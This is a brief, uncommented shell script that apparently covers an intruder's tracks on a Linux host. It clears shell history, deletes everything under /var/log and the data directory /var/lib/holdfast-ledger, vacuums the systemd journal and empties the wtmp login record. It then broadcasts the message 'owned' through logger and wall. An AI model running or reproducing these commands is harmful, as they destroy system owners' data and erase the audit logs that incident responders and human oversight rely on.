history -c
rm -rf /var/log/* /var/lib/holdfast-ledger/*
journalctl --rotate --vacuum-size=1
truncate -s0 /var/log/wtmp
echo >/dev/kmsg
logger -p emerg owned; wall owned
